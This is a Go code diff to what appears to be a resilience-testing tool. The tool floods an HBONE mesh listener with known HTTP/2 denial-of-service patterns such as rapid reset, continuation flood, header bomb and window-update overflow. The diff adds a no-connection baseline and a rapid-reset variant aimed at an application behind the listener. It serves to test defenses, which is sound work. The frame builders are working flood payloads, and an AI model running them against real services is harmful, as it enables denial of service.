@@ -28,7 +28,8 @@ import (
 // attack is one way to treat an agent's HBONE listener.
 type attack struct {
 	name string
-	// begin is what a connection starts with: nothing, TLS without a certificate, or TLS with one and the HTTP/2 preface.
+	// begin is what a connection starts with: nothing, TLS without a certificate, or TLS with one and the HTTP/2 preface. To
+	// compare with, there is an attack without connections.
 	begin opening
 	// burst makes what is sent again and again; nil sends nothing.
 	burst func(n uint32) []byte
@@ -37,7 +38,8 @@ type attack struct {
 type opening uint8
 
 const (
-	openTCP opening = iota
+	openNothing opening = iota
+	openTCP
 	openAnonymous
 	openHTTP2
 )
@@ -51,40 +53,35 @@ const (
 	burstFrames   = 64
 )
 
-// attacks are the ways, most of them from the list of HTTP/2's well-known weaknesses.
-func attacks() []attack {
+// attacks are the ways, most of them from the list of HTTP/2's well-known weaknesses. app is an application that requests may
+// lead to.
+func attacks(app netip.AddrPort) []attack {
 	return []attack{
+		{"nothing", openNothing, nil},
 		{"tls_garbage", openTCP, func(uint32) []byte { b := make([]byte, 4096); _, _ = rand.Read(b); return b }},
 		{"plaintext", openTCP, func(uint32) []byte { return []byte("GET / HTTP/1.1\r\nHost: app\r\n\r\n") }},
 		{"silence", openTCP, nil},
 		{"no_certificate", openAnonymous, func(uint32) []byte { return []byte(http2.ClientPreface) }},
 		{"settings_flood", openHTTP2, func(uint32) []byte { return bytes.Repeat(frame(http2.FrameSettings, 0, 0, nil), burstFrames) }},
 		{"ping_flood", openHTTP2, func(uint32) []byte { return bytes.Repeat(frame(http2.FramePing, 0, 0, make([]byte, 8)), burstFrames) }},
-		{"rapid_reset", openHTTP2, func(n uint32) []byte {
-			var b []byte
-			for i := range uint32(burstFrames) {
-				id := 1 + 2*(n*burstFrames+i)
-				b = append(b, frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, id, connectBlock())...)
-				b = append(b, frame(http2.FrameRSTStream, 0, id, []byte{0, 0, 0, 8})...)
-			}
-			return b
-		}},
+		{"rapid_reset", openHTTP2, func(n uint32) []byte { return resets(n, nowhere) }},
+		{"rapid_reset_served", openHTTP2, func(n uint32) []byte { return resets(n, app.String()) }},
 		{"continuation_flood", openHTTP2, func(n uint32) []byte {
 			var b []byte
 			if n == 0 {
-				b = frame(http2.FrameHeaders, 0, 1, connectBlock())
+				b = frame(http2.FrameHeaders, 0, 1, connectBlock(nowhere))
 			}
 			return append(b, bytes.Repeat(frame(http2.FrameContinuation, 0, 1, nil), burstFrames)...)
 		}},
 		{"empty_data_flood", openHTTP2, func(n uint32) []byte {
 			var b []byte
 			if n == 0 {
-				b = frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, connectBlock())
+				b = frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, connectBlock(nowhere))
 			}
 			return append(b, bytes.Repeat(frame(http2.FrameData, 0, 1, nil), burstFrames)...)
 		}},
 		{"header_bomb", openHTTP2, func(n uint32) []byte {
-			return frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1+2*n, append(connectBlock(), bombBlock()...))
+			return frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1+2*n, append(connectBlock(nowhere), bombBlock()...))
 		}},
 		{"window_overflow", openHTTP2, func(uint32) []byte {
 			return bytes.Repeat(frame(http2.FrameWindowUpdate, 0, 0, []byte{0x7f, 0xff, 0xff, 0xff}), burstFrames)
@@ -93,16 +90,30 @@ func attacks() []attack {
 	}
 }
 
+// nowhere is an authority that is not the pod's.
+const nowhere = "10.0.0.1:1"
+
+// resets are requests that are taken back at once.
+func resets(n uint32, authority string) []byte {
+	var b []byte
+	for i := range uint32(burstFrames) {
+		id := 1 + 2*(n*burstFrames+i)
+		b = append(b, frame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, id, connectBlock(authority))...)
+		b = append(b, frame(http2.FrameRSTStream, 0, id, []byte{0, 0, 0, 8})...)
+	}
+	return b
+}
+
 func frame(t http2.FrameType, flags http2.Flags, stream uint32, payload []byte) []byte {
 	b := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), byte(t), byte(flags)}
 	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
 }
 
-// connectBlock is a request for a port that nothing listens on.
-func connectBlock() []byte {
+// connectBlock is a request.
+func connectBlock(authority string) []byte {
 	var b bytes.Buffer
 	e := hpack.NewEncoder(&b)
-	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "CONNECT"}, {Name: ":authority", Value: "10.0.0.1:1"}} {
+	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "CONNECT"}, {Name: ":authority", Value: authority}} {
 		_ = e.WriteField(f) // into memory
 	}
 	return b.Bytes()
@@ -124,12 +135,15 @@ func attackTool(args []string, out io.Writer) error {
 	if err := f.Parse(args); err != nil {
 		return err
 	}
-	if f.NArg() != 2 {
-		return errors.New("want an attack and an address")
+	if f.NArg() != 3 {
+		return errors.New("want an attack, the listener's address and an application's behind it")
 	}
-	addr, err := netip.ParseAddrPort(f.Arg(1))
-	if err != nil {
-		return err
+	var addrs [2]netip.AddrPort
+	for i := range addrs {
+		var err error
+		if addrs[i], err = netip.ParseAddrPort(f.Arg(1 + i)); err != nil {
+			return err
+		}
 	}
 	if err := syscall.Setpriority(syscall.PRIO_PROCESS, 0, 19); err != nil {
 		return os.NewSyscallError("setpriority", err)
@@ -138,10 +152,10 @@ func attackTool(args []string, out io.Writer) error {
 	if err != nil {
 		return err
 	}
-	for _, a := range attacks() {
+	for _, a := range attacks(addrs[1]) {
 		if a.name == f.Arg(0) {
 			fmt.Fprintln(out, a.name)
-			a.run(addr, config)
+			a.run(addrs[0], config)
 			return nil
 		}
 	}
@@ -169,7 +183,9 @@ func (a attack) run(addr netip.AddrPort, config *tls.Config) {
 	for range attackers {
 		wg.Go(func() {
 			for {
-				a.once(addr, config)
+				if a.begin != openNothing {
+					a.once(addr, config)
+				}
 				time.Sleep(attackAgain)
 			}
 		})
